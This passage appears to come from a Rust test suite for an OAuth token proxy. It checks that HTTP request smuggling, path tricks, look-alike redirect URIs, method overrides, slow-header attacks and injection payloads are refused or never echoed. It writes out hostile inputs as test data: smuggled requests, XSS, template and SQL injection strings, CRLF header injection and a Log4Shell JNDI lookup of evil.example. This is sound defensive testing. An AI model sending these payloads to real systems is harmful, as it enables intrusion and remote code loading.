            raw_post(TOKEN, &format!("{ct}Content-Length: +{len}\r\n"), &body),
            vec![Answer::Protocol(400)],
            true,
        ),
        // A malformed chunk size is met while the application reads the body: its JSON 400.
        raw_case(
            "a chunk size that is not hex",
            raw_post(
                TOKEN,
                &format!("{ct}Transfer-Encoding: chunked\r\n"),
                &format!("zz\r\n{body}\r\n0\r\n\r\n"),
            ),
            vec![Answer::Error(400, "invalid_request")],
            true,
        ),
        raw_case(
            "chunk extensions are allowed",
            raw_post(
                TOKEN,
                &format!("{ct}Transfer-Encoding: chunked\r\n"),
                &format!(
                    "{:x};ext=\"v\"\r\n{}\r\n0\r\n\r\n",
                    len,
                    json_exchange(&code(82))
                ),
            ),
            vec![Answer::Tokens],
            false,
        ),
    ])
    .await;
}

#[tokio::test]
async fn an_http_1_0_request_is_served_and_its_connection_closed() {
    let app = spawn_app().await;
    upstream_succeeds_times(&app, 1).await;
    let body = json_exchange(&code(90));
    let request = format!(
        "POST {TOKEN} HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );

    let outcome = raw_exchange(&app, request.as_bytes(), Duration::from_secs(4)).await;

    assert_eq!(outcome.responses.len(), 1, "{outcome:?}");
    let response = &outcome.responses[0];
    assert!(
        response.status_line.starts_with("HTTP/1.0 200"),
        "{}",
        response.status_line
    );
    assert_answer("HTTP/1.0", response, Answer::Tokens);
    // HTTP/1.0 without keep-alive: closed after the response, not at the 1 s idle deadline.
    assert!(outcome.closed);
    assert!(outcome.elapsed < Duration::from_millis(900), "{outcome:?}");
    assert_eq!(provider_calls(&app).await, 1);
    assert!(app.is_healthy().await);
}

// ---------------------------------------------------------------------------------------------
// Request smuggling: a second request hidden in the first must never be answered as one.

#[tokio::test]
async fn smuggled_requests_are_never_answered() {
    let ct = "Content-Type: application/json\r\n";
    let smuggled = "GET /healthz HTTP/1.1\r\nHost: proxy.test\r\n\r\n";
    let smuggled_post =
        String::from_utf8(raw_json(TOKEN, &json_exchange(&code(99)))).expect("ASCII request");
    run_raw_table(vec![
        // CL.TE: a front end framing by Content-Length would forward the GET as body; the
        // proxy frames by chunked, refuses the empty body and closes, so the GET is never read.
        raw_case(
            "CL.TE: Content-Length and chunked, a GET after the last chunk",
            raw_post(
                TOKEN,
                &format!(
                    "{ct}Content-Length: {}\r\nTransfer-Encoding: chunked\r\n",
                    5 + smuggled.len()
                ),
                &format!("0\r\n\r\n{smuggled}"),
            ),
            vec![Answer::Error(400, "invalid_request")],
            true,
        ),
        // TE.TE obfuscations: hyper refuses every Transfer-Encoding it does not understand.
        raw_case(
            "Transfer-Encoding: xchunked",
            raw_post(
                TOKEN,
                &format!("{ct}Transfer-Encoding: xchunked\r\nContent-Length: 5\r\n"),
                &format!("0\r\n\r\n{smuggled}"),
            ),
            vec![Answer::Protocol(400)],
            true,
        ),
        raw_case(
            "Transfer-Encoding: chunked, identity",
            raw_post(
                TOKEN,
                &format!("{ct}Transfer-Encoding: chunked, identity\r\n"),
                &format!("0\r\n\r\n{smuggled}"),
            ),
            vec![Answer::Protocol(400)],
            true,
        ),
        raw_case(
            "Transfer-Encoding twice: chunked, then identity",
            raw_post(
                TOKEN,
                &format!("{ct}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"),
                &format!("0\r\n\r\n{smuggled}"),
            ),
            vec![Answer::Protocol(400)],
            true,
        ),
        raw_case(
            "a space before the colon of Transfer-Encoding",
            raw_post(
                TOKEN,
                &format!("{ct}Transfer-Encoding : chunked\r\nContent-Length: 5\r\n"),
                &format!("0\r\n\r\n{smuggled}"),
            ),
            vec![Answer::Protocol(400)],
            true,
        ),
        raw_case(
            "Transfer-Encoding folded onto a continuation line",
            raw_post(
                TOKEN,
                &format!("{ct}Transfer-Encoding:\r\n chunked\r\nContent-Length: 5\r\n"),
                &format!("0\r\n\r\n{smuggled}"),
            ),
            vec![Answer::Protocol(400)],
            true,
        ),
        // RFC 9112 §6.1: Transfer-Encoding in HTTP/1.0 means broken framing.
        raw_case(
            "chunked in an HTTP/1.0 request",
            format!(
                "POST {TOKEN} HTTP/1.0\r\n{ct}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}"
            )
            .into_bytes(),
            vec![Answer::Protocol(400)],
            true,
        ),
        // Early answers (415, 404, 405) before reading the body: the unread body is discarded,
        // not parsed as the next request.
        raw_case(
            "a 415 whose body is a complete GET",
            raw_post(
                TOKEN,
                &format!(
                    "Content-Type: text/plain\r\nContent-Length: {}\r\n",
                    smuggled.len()
                ),
                smuggled,
            ),
            vec![Answer::Error(415, "invalid_request")],
            false,
        ),
        raw_case(
            "a 404 whose body is a complete valid token request",
            raw_post(
                "/api/v1/nope/token",
                &format!("{ct}Content-Length: {}\r\n", smuggled_post.len()),
                &smuggled_post,
            ),
            vec![Answer::Error(404, "not_found")],
            false,
        ),
        raw_case(
            "a 405 (GET /token) whose body is a complete valid token request",
            format!(
                "GET {TOKEN} HTTP/1.1\r\nHost: proxy.test\r\n{ct}Content-Length: {}\r\n\r\n{smuggled_post}",
                smuggled_post.len()
            )
            .into_bytes(),
            vec![Answer::Error(405, "invalid_request")],
            false,
        ),
        // 413 from the declared length, without reading: the connection must close, or the
        // unread 1 MB "body" (here, a request) would be parsed next.
        raw_case(
            "a 413 followed by a complete valid token request",
            raw_post(
                TOKEN,
                &format!("{ct}Content-Length: 1000000\r\n"),
                &smuggled_post,
            ),
            vec![Answer::Error(413, "invalid_request")],
            true,
        ),
    ])
    .await;
}

// ---------------------------------------------------------------------------------------------
// Path tricks.

#[tokio::test]
async fn path_tricks_route_exactly_and_query_strings_are_not_fields() {
    let body = |n| json_exchange(&code(n));
    let missing_code = format!("{{{}}}", json_rest());
    run_raw_table(vec![
        raw_case(
            "trailing slash, form body",
            raw_post(
                "/api/v1/kick/token/",
                &format!(
                    "Content-Type: {FORM}\r\nContent-Length: {}\r\n",
                    form_exchange(CODE).len()
                ),
                &form_exchange(CODE),
            ),
            vec![Answer::Error(404, "not_found")],
            false,
        ),
        raw_case(
            "leading double slash",
            raw_json("//api/v1/kick/token", &body(100)),
            vec![Answer::Error(404, "not_found")],
            false,
        ),
        raw_case(
            "dot segment back to the endpoint (not normalised)",
            raw_json("/api/v1/kick/../kick/token", &body(101)),
            vec![Answer::Error(404, "not_found")],
            false,
        ),
        raw_case(
            "encoded `t` in the endpoint segment",
            raw_json("/api/v1/kick/%74oken", &body(102)),
            vec![Answer::Error(404, "not_found")],
            false,
        ),
        raw_case(
            "path parameter after the endpoint",
            raw_json("/api/v1/kick/token;x=1", &body(103)),
            vec![Answer::Error(404, "not_found")],
            false,
        ),
        raw_case(
            "encoded slash inside the provider segment",
            raw_json("/api/v1/kick%2Ftoken/token", &body(104)),
            vec![Answer::Error(404, "not_found")],
            false,
        ),
        // The provider segment is percent-decoded before lookup: `%6Bick` is `kick`, the same
        // URI by RFC 3986 §6.2.2.2 (percent-encoded unreserved characters are equivalent).
        raw_case(
            "encoded `k` in the provider segment",
            raw_json("/api/v1/%6Bick/token", &body(105)),
            vec![Answer::Tokens],
            false,
        ),
        // RFC 9112 §3.2.2: a server must accept the absolute form; the authority is unused.
        raw_case(
            "absolute-form request target naming another host",
            raw_json("http://evil.example/api/v1/kick/token", &body(106)),
            vec![Answer::Tokens],
            false,
        ),
        raw_case(
            "the required fields in the query, none in the body",
            raw_json(
                &format!(
                    "{TOKEN}?code={CODE}&code_verifier={VERIFIER}&redirect_uri={}",
                    enc(REDIRECT_URI)
                ),
                "{}",
            ),
            vec![Answer::Error(400, "invalid_request")],
            false,
        ),
        raw_case(
            "the code in the query, the rest in the body",
            raw_json(&format!("{TOKEN}?code={CODE}"), &missing_code),
            vec![Answer::Error(400, "invalid_request")],
            false,
        ),
        // Query values are neither duplicates of body fields nor forwarded.
        raw_case(
            "a different code and redirect_uri in the query, a valid body",
            raw_json(
                &format!("{TOKEN}?code=evil&redirect_uri=http%3A%2F%2Fevil.example%2F"),
                &body(107),
            ),
            vec![Answer::Tokens],
            false,
        ),
    ])
    .await;
}

// ---------------------------------------------------------------------------------------------
// Redirect look-alikes inside otherwise valid requests.

#[tokio::test]
async fn a_look_alike_redirect_uri_is_refused_whatever_valid_material_surrounds_it() {
    let c = CODE;
    let (r, a) = (REDIRECT_URI, APP_REDIRECT_URI);
    let evil = "http://localhost:1420@evil.example/auth/callback";
    run_table(vec![
        case(
            "look-alike in the body, the allowed value in an unknown nested field",
            TOKEN,
            JSON,
            format!(r#"{{"x":{{"redirect_uri":"{r}"}},"code":"{c}","code_verifier":"{VERIFIER}","redirect_uri":"{evil}"}}"#),
            refused(),
        ),
        case(
            "look-alike in redirect_uri, the allowed value under REDIRECT_URI",
            TOKEN,
            FORM,
            format!("REDIRECT_URI={}&code={c}&code_verifier={VERIFIER}&redirect_uri={}", enc(r), enc(evil)),
            refused(),
        ),
        case(
            "double-encoded colon (%253A) in the app redirect",
            TOKEN,
            FORM,
            format!("code={c}&code_verifier={VERIFIER}&redirect_uri=battles-record%253A%2F%2Foauth%2Fcallback"),
            refused(),
        ),
        case(
            "the allowed value with an encoded fragment (%23)",
            TOKEN,
            FORM,
            format!("code={c}&code_verifier={VERIFIER}&redirect_uri={}%23", enc(a)),
            refused(),
        ),
        case(
            "JSON \\u escapes spelling the allowed value plus a NUL",
            TOKEN,
            JSON,
            format!(r#"{{"code":"{c}","code_verifier":"{VERIFIER}","redirect_uri":"battles-record:\/\/oauth\/callback\u0000"}}"#),
            refused(),
        ),
        case(
            "a redirect_url (typo) look-alike is an unknown field, ignored",
            TOKEN,
            JSON,
            json_exchange_with(&format!(r#""redirect_url":"{evil}","#), &code(110)),
            Expect::Served(vec![
                ("code", code(110)),
                ("redirect_uri", REDIRECT_URI.to_owned()),
            ]),
        ),
        case(
            "a look-alike redirect_uri on /refresh is unknown there and not forwarded",
            REFRESH,
            JSON,
            format!(r#"{{"refresh_token":"{REFRESH_TOKEN}","redirect_uri":"{evil}"}}"#),
            Expect::Served(vec![("refresh_token", REFRESH_TOKEN.to_owned())]),
        ),
    ])
    .await;
}

// ---------------------------------------------------------------------------------------------
// Slow and oversized requests.

#[tokio::test]
async fn headers_trickled_one_byte_at_a_time_are_cut_at_the_header_deadline() {
    let app = spawn_app().await;
    app.upstream_must_not_be_called().await;
    let stream = TcpStream::connect(app.addr).await.expect("connect");
    let (mut reader, mut writer) = stream.into_split();
    let head = format!(
        "POST {TOKEN} HTTP/1.1\r\nHost: proxy.test\r\nContent-Type: application/json\r\nX-Pad: {}\r\n\r\n",
        "a".repeat(200)
    );
    let started = Instant::now();
    // One byte every 50 ms: each read makes progress, the whole head would take 13 s.
    let trickle = tokio::spawn(async move {
        for byte in head.bytes() {
            if writer.write_all(&[byte]).await.is_err() {
                return;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    });

    let mut received = Vec::new();
    let read =
        tokio::time::timeout(Duration::from_secs(5), reader.read_to_end(&mut received)).await;
    trickle.abort();

    // hyper closes the connection without a response: no request ever reached the application.
    assert!(read.is_ok(), "the connection was still open after 5 s");
    assert!(
        received.is_empty(),
        "{:?}",
        String::from_utf8_lossy(&received)
    );
    assert!(
        started.elapsed() < Duration::from_secs(3),
        "{:?}",
        started.elapsed()
    );
    assert!(app.is_healthy().await);
}

#[tokio::test]
async fn a_body_trickled_past_the_deadline_gets_408_while_it_is_still_arriving() {
    let app = spawn_app().await;
    app.upstream_must_not_be_called().await;
    let body = json_exchange(CODE);
    let stream = TcpStream::connect(app.addr).await.expect("connect");
    let (mut reader, mut writer) = stream.into_split();
    writer
        .write_all(&raw_post(
            TOKEN,
            &format!(
                "Content-Type: application/json\r\nContent-Length: {}\r\n",
                body.len()
            ),
            "",
        ))
        .await
        .expect("head");
    let started = Instant::now();
    // One byte every 50 ms: the body would take about 9 s; the deadline is 1 s.
    let trickle = tokio::spawn(async move {
        for byte in body.bytes() {
            if writer.write_all(&[byte]).await.is_err() {
                return;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    });

    let mut received = Vec::new();
    let answered = tokio::time::timeout(Duration::from_secs(5), async {
        let mut chunk = [0u8; 1024];
        loop {
            let (responses, _) = parse_responses(&received);
            if !responses.is_empty() {
                return responses;
            }
            match reader.read(&mut chunk).await {
                Ok(0) | Err(_) => return parse_responses(&received).0,
                Ok(n) => received.extend_from_slice(&chunk[..n]),
            }
        }
    })
    .await
    .expect("answered within 5 s");
    let elapsed = started.elapsed();
    let still_sending = !trickle.is_finished();
    trickle.abort();

    assert_eq!(answered.len(), 1);
    assert_answer(
        "trickled body",
        &answered[0],
        Answer::Error(408, "invalid_request"),
    );
    assert!(still_sending, "the answer must not wait for the whole body");
    assert!(elapsed < Duration::from_secs(3), "{elapsed:?}");
    assert!(app.is_healthy().await);
}

#[tokio::test]
async fn too_many_or_too_large_headers_get_431_from_hyper() {
    let body = json_exchange(CODE);
    let many: String = (0..10_000).map(|i| format!("X-H{i}: v\r\n")).collect();
    let huge = format!("X-Big: {}\r\n", "a".repeat(1024 * 1024));
    let ct = format!(
        "Content-Type: application/json\r\nContent-Length: {}\r\n",
        body.len()
    );
    // hyper refuses the head before any routing: its own bodyless 431, nothing reached the app.
    run_raw_table(vec![
        raw_case(
            "10,000 headers",
            raw_post(TOKEN, &format!("{ct}{many}"), &body),
            vec![Answer::Protocol(431)],
            true,
        ),
        raw_case(
            "a 1 MiB header value",
            raw_post(TOKEN, &format!("{ct}{huge}"), &body),
            vec![Answer::Protocol(431)],
            true,
        ),
    ])
    .await;
}

#[tokio::test]
async fn a_connection_that_sends_nothing_is_closed_at_the_header_deadline() {
    let app = spawn_app().await;
    let outcome = raw_exchange(&app, b"", Duration::from_secs(4)).await;
    assert!(outcome.closed, "still open after {:?}", outcome.elapsed);
    assert!(outcome.responses.is_empty());
    assert!(app.is_healthy().await);
}

#[tokio::test]
async fn an_http2_connection_that_never_sends_headers_is_closed_at_the_header_deadline() {
    let app = spawn_app().await;
    // Preface, then an empty SETTINGS frame (length 0, type 4, flags 0, stream 0).
    let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
    let outcome = raw_exchange(&app, preface, Duration::from_secs(4)).await;
    assert!(outcome.closed, "still open after {:?}", outcome.elapsed);
    assert!(app.is_healthy().await);
}

// ---------------------------------------------------------------------------------------------
// Method overrides: the method on the request line is the only one that counts.

/// A request whose method someone tries to override.
struct Override {
    name: &'static str,
    method: Method,
    path: &'static str,
    header: (&'static str, &'static str),
    body: String,
    expect: Expect,
}

#[tokio::test]
async fn method_override_headers_and_fields_are_ignored() {
    let app = spawn_app().await;
    upstream_succeeds_times(&app, 2).await;
    let cases = vec![
        Override {
            name: "POST with X-HTTP-Method-Override: GET is still a POST",
            method: Method::POST,
            path: TOKEN,
            header: ("x-http-method-override", "GET"),
            body: json_exchange(&code(120)),
            expect: served_with_code(&code(120)),
        },
        Override {
            name: "POST with X-HTTP-Method-Override: DELETE and _method=DELETE",
            method: Method::POST,
            path: TOKEN,
            header: ("x-http-method-override", "DELETE"),
            body: json_exchange_with(r#""_method":"DELETE","#, &code(121)),
            expect: served_with_code(&code(121)),
        },
        Override {
            name: "GET with X-HTTP-Method-Override: POST",
            method: Method::GET,
            path: TOKEN,
            header: ("x-http-method-override", "POST"),
            body: json_exchange(&code(122)),
            expect: Expect::Refused(405, "invalid_request"),
        },
        Override {
            name: "PUT with X-HTTP-Method: POST",
            method: Method::PUT,
            path: TOKEN,
            header: ("x-http-method", "POST"),
            body: json_exchange(&code(123)),
            expect: Expect::Refused(405, "invalid_request"),
        },
        Override {
            name: "GET with X-Method-Override: POST on /refresh",
            method: Method::GET,
            path: REFRESH,
            header: ("x-method-override", "POST"),
            body: format!(r#"{{"refresh_token":"{REFRESH_TOKEN}"}}"#),
            expect: Expect::Refused(405, "invalid_request"),
        },
        Override {
            name: "an unknown method FOO",
            method: Method::from_bytes(b"FOO").expect("method"),
            path: TOKEN,
            header: ("x-http-method-override", "POST"),
            body: json_exchange(&code(124)),
            expect: Expect::Refused(405, "invalid_request"),
        },
        Override {
            name: "a lower-case `post` is another method (methods are case-sensitive)",
            method: Method::from_bytes(b"post").expect("method"),
            path: TOKEN,
            header: ("x-http-method-override", "POST"),
            body: json_exchange(&code(125)),
            expect: Expect::Refused(405, "invalid_request"),
        },
        Override {
            name: "POST /healthz with X-HTTP-Method-Override: GET",
            method: Method::POST,
            path: "/healthz",
            header: ("x-http-method-override", "GET"),
            body: String::new(),
            expect: Expect::Refused(405, "invalid_request"),
        },
    ];
    for case in cases {
        let name = case.name;
        let before = provider_calls(&app).await;
        let response = app
            .http
            .request(case.method, app.url(case.path))
            .header("content-type", JSON)
            .header(case.header.0, case.header.1)
            .body(case.body)
            .send()
            .await
            .expect("proxy answers");
        check(&app, name, response, &case.expect, before).await;
        assert!(
            app.is_healthy().await,
            "{name}: the service stopped answering"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Injection payloads: forwarded verbatim where the rules allow them, echoed nowhere.

const PAYLOADS: [&str; 6] = [
    "</script><script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "';DROP-TABLE-tokens;--",
    "%0d%0aSet-Cookie:x=1",
    "${7*7}<%=7*7%>#{7*7}",
];

/// Asserts that neither the body nor any header value of `response` contains `payload` (nor its
/// evaluation, 49); returns the body.
async fn assert_not_echoed(name: &str, response: reqwest::Response, payload: &str) -> Value {
    for (header, value) in response.headers() {
        let value = String::from_utf8_lossy(value.as_bytes());
        assert!(
            !value.contains(payload),
            "{name}: echoed in {header}: {value}"
        );
    }
    let text = response.text().await.expect("body");
    assert!(!text.contains(payload), "{name}: echoed: {text}");
    assert!(!text.contains("49"), "{name}: evaluated: {text}");
    serde_json::from_str(&text).expect("JSON body")
}

#[tokio::test]
async fn injection_payloads_are_forwarded_verbatim_or_refused_and_never_echoed() {
    let app = spawn_app().await;
    // Every payload is visible ASCII, so as a code it is valid input: the provider says it is
    // not a code it issued.
    app.upstream_answers(
        ResponseTemplate::new(400).set_body_json(json!({
            "error": "invalid_grant",
            "error_description": "The authorization code is invalid."
        })),
        PAYLOADS.len() as u64,
    )
    .await;
    for payload in PAYLOADS {
        let name = format!("code {payload:?}");
        let before = provider_calls(&app).await;
        let body =
            json!({"code": payload, "code_verifier": VERIFIER, "redirect_uri": REDIRECT_URI});
        let response = app.post_json(TOKEN, &body).await;
        assert_eq!(response.status(), 400, "{name}");
        let body = assert_not_echoed(&name, response, payload).await;
        assert_eq!(body["error"], "invalid_grant", "{name}");
        let requests = app.upstream.received_requests().await.unwrap_or_default();
        assert_eq!(requests.len(), before + 1, "{name}");
        assert_eq!(
            form_of(requests.last().expect("a call"))
                .get("code")
                .map(String::as_str),
            Some(payload),
            "{name}: forwarded verbatim"
        );

        let placements: [(&str, &str, Value, u16, &str); 4] = [
            (
                "as the verifier",
                TOKEN,
                json!({"code": CODE, "code_verifier": payload, "redirect_uri": REDIRECT_URI}),
                400,
                "invalid_request",
            ),
            (
                "as the redirect_uri",
                TOKEN,
                json!({"code": CODE, "code_verifier": VERIFIER, "redirect_uri": payload}),
                400,
                "invalid_request",
            ),
            (
                "with CR LF, as the refresh token",
                REFRESH,
                json!({"refresh_token": format!("{payload}\r\nX-Injected: 1")}),
                400,
                "invalid_request",
            ),
            (
                "as the revoke token_type_hint",
                REVOKE,
                json!({"token": "abc", "token_type_hint": payload}),
                400,
                "invalid_request",
            ),
        ];
        for (placement, path, body, status, code) in placements {
            let name = format!("{payload:?} {placement}");
            let before = provider_calls(&app).await;
            let response = app.post_json(path, &body).await;
            assert_eq!(response.status().as_u16(), status, "{name}");
            let body = assert_not_echoed(&name, response, payload).await;
            assert_eq!(body["error"], code, "{name}");
            assert_eq!(
                provider_calls(&app).await,
                before,
                "{name}: provider called"
            );
        }

        // In the provider segment and in x-request-id (both end up in the log line).
        let name = format!("{payload:?} in the path and x-request-id");
        let path = format!("/api/v1/{}/token", enc(payload));
        let response = app
            .http
            .post(app.url(&path))
            .header("content-type", JSON)
            .header("x-request-id", payload)
            .body(json_exchange(CODE))
            .send()
            .await
            .expect("proxy answers");
        assert_eq!(response.status(), 404, "{name}");
        let body = assert_not_echoed(&name, response, payload).await;
        assert_eq!(body["error"], "not_found", "{name}");
        assert!(
            app.is_healthy().await,
            "{name}: the service stopped answering"
        );
    }
}

#[tokio::test]
async fn injection_payloads_in_unknown_fields_are_ignored_and_not_forwarded() {
    let cases = PAYLOADS
        .iter()
        .enumerate()
        .flat_map(|(i, payload)| {
            let n = 130 + 2 * i as u32;
            let json_body = json!({
                "code": code(n), "code_verifier": VERIFIER, "redirect_uri": REDIRECT_URI,
                "state": payload, "client_secret": payload,
            });
            // `/token` reads grant_type (a payload there is unsupported_grant_type, in
            // grant_type.rs); `/refresh` ignores it.
            let refresh_body = json!({
                "refresh_token": format!("{REFRESH_TOKEN}{n}"), "grant_type": payload,
                "client_id": payload,
            });
            let form_body = format!(
                "scope={}&client_id={}&{}",
                enc(payload),
                enc(payload),
                form_exchange(&code(n + 1))
            );
            [
                case(
                    format!("JSON with {payload:?} in state, client_secret"),
                    TOKEN,
                    JSON,
                    json_body.to_string(),
                    Expect::Served(vec![
                        ("code", code(n)),
                        ("client_secret", CLIENT_SECRET.to_owned()),
                        ("grant_type", "authorization_code".to_owned()),
                    ]),
                ),
                case(
                    format!("JSON to /refresh with {payload:?} in grant_type, client_id"),
                    REFRESH,
                    JSON,
                    refresh_body.to_string(),
                    Expect::Served(vec![
                        ("refresh_token", format!("{REFRESH_TOKEN}{n}")),
                        ("client_id", CLIENT_ID.to_owned()),
                        ("grant_type", "refresh_token".to_owned()),
                    ]),
                ),
                case(
                    format!("form with {payload:?} in scope and client_id"),
                    TOKEN,
                    FORM,
                    form_body,
                    Expect::Served(vec![
                        ("code", code(n + 1)),
                        ("client_id", CLIENT_ID.to_owned()),
                    ]),
                ),
            ]
        })
        .collect();
    run_table(cases).await;
}

// ---------------------------------------------------------------------------------------------
// Upstream faults mixed with bad input: bad input is answered at once, the provider untouched.

/// A request the proxy must refuse without calling the provider.
struct Bad {
    name: &'static str,
    path: &'static str,
    content_type: &'static str,
    body: Vec<u8>,
    status: u16,
    code: &'static str,
}

fn bad(
    name: &'static str,
    path: &'static str,
    content_type: &'static str,
    body: impl Into<Vec<u8>>,
    status: u16,
    code: &'static str,
) -> Bad {
    Bad {
        name,
        path,
        content_type,
        body: body.into(),
        status,
        code,
    }
}

/// Bad requests of every kind, each answered without the provider.
fn bad_requests() -> Vec<Bad> {
    let c = CODE;
    let r = REDIRECT_URI;
    vec![
        bad(
            "short verifier",
            TOKEN,
            JSON,
            format!(r#"{{"code":"{c}","code_verifier":"short","redirect_uri":"{r}"}}"#),
            400,
            "invalid_request",
        ),
        bad(
            "look-alike redirect",
            TOKEN,
            JSON,
            format!(r#"{{"code":"{c}","code_verifier":"{VERIFIER}","redirect_uri":"{r}/"}}"#),
            400,
            "invalid_request",
        ),
        bad(
            "duplicate code",
            TOKEN,
            FORM,
            format!("code={c}&code={c}&{}", form_rest()),
            400,
            "invalid_request",
        ),
        bad(
            "truncated JSON",
            TOKEN,
            JSON,
            "{\"code\":",
            400,
            "invalid_request",
        ),
        bad(
            "unsupported media type",
            TOKEN,
            "text/plain",
            json_exchange(c),
            415,
            "invalid_request",
        ),
        bad(
            "over 16 KiB",
            TOKEN,
            JSON,
            json_exchange_with(&format!(r#""pad":"{}","#, "x".repeat(17 * 1024)), c),
            413,
            "invalid_request",
        ),
        bad(
            "unknown provider",
            "/api/v1/nope/token",
            JSON,
            json_exchange(c),
            404,
            "not_found",
        ),
        bad(
            "refresh token with a space",
            REFRESH,
            JSON,
            r#"{"refresh_token":"a b"}"#,
            400,
            "invalid_request",
        ),
        bad(
            "revoke with a bad hint",
            REVOKE,
            FORM,
            "token=abc&token_type_hint=id_token",
            400,
            "invalid_request",
        ),
    ]
}

/// Sends `bad`, asserts its refusal arrived within a second with no new provider call.
async fn assert_refused_at_once(app: &TestApp, bad: Bad, calls_before: usize) {
    let started = Instant::now();
    let response = app.post_raw(bad.path, bad.content_type, bad.body).await;
    let elapsed = started.elapsed();
    let expect = Expect::Refused(bad.status, bad.code);
    check(app, bad.name, response, &expect, calls_before).await;
    // The provider would hang for 30 s (the upstream deadline is 2 s here).
    assert!(
        elapsed < Duration::from_secs(1),
        "{}: {elapsed:?}",
        bad.name
    );
    assert!(
        app.is_healthy().await,
        "{}: the service stopped answering",
        bad.name
    );
}

#[tokio::test]
async fn a_hanging_provider_does_not_delay_the_refusal_of_bad_input() {
    let app = spawn_app().await;
    app.upstream_answers(
        ResponseTemplate::new(200)
            .set_body_json(kick_tokens())
            .set_delay(Duration::from_secs(30)),
        0,
    )
    .await;
    for bad in bad_requests() {
        assert_refused_at_once(&app, bad, 0).await;
    }
}

#[tokio::test]
async fn bad_input_is_refused_at_once_while_a_valid_request_hangs_on_the_provider() {
    let app = spawn_app().await;
    app.upstream_answers(
        ResponseTemplate::new(200)
            .set_body_json(kick_tokens())
            .set_delay(Duration::from_secs(30)),
        1,
    )
    .await;
    let hanging = {
        let request = app
            .http
            .post(app.url(TOKEN))
            .header("content-type", JSON)
            .body(json_exchange(&code(150)));
        tokio::spawn(async move { request.send().await.expect("proxy answers") })
    };
    // Wait until the valid request is with the provider.
    let waited = Instant::now();
    while provider_calls(&app).await == 0 {
        assert!(
            waited.elapsed() < Duration::from_secs(2),
            "never reached the provider"
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    }

    for bad in bad_requests() {
        let name = bad.name;
        assert_refused_at_once(&app, bad, 1).await;
        assert!(
            !hanging.is_finished(),
            "{name}: the valid request should still hang"
        );
    }

    // The valid request ends at the 2 s upstream deadline, as a 502.
    let response = hanging.await.expect("task");
    assert_kick_502(response).await;
    assert_eq!(provider_calls(&app).await, 1);
    assert!(app.is_healthy().await);
}

#[tokio::test]
async fn a_failing_provider_never_turns_bad_input_into_a_502() {
    let app = spawn_app().await;
    app.upstream_answers(
        ResponseTemplate::new(500).set_body_string("<html>down</html>"),
        0,
    )
    .await;
    for bad in bad_requests() {
        let response = app.post_raw(bad.path, bad.content_type, bad.body).await;
        let expect = Expect::Refused(bad.status, bad.code);
        check(&app, bad.name, response, &expect, 0).await;
        assert!(
            app.is_healthy().await,
            "{}: the service stopped answering",
            bad.name
        );
    }
}
